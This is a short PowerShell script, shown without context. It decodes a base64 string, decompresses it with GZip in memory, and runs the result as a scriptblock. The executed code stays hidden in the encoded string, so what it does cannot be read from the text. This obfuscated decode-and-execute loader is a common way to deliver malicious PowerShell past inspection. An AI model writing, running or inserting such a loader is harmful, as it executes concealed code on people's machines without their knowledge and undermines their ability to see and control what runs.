$b64 = 'H4sIAAAAAAAEAAvKz0nVS8vPV0gtLskvyEnMS1cIyczNTFFIyMsvyklRBAD/tCxBIgAAAA=='
$raw = [Convert]::FromBase64String($b64)
$ms = New-Object IO.MemoryStream(, $raw)
$gz = New-Object IO.Compression.GZipStream($ms, [IO.Compression.CompressionMode]::Decompress)
$sr = New-Object IO.StreamReader($gz)
$text = $sr.ReadToEnd()
$sr.Close()

$block = [scriptblock]::Create($text)
& $block
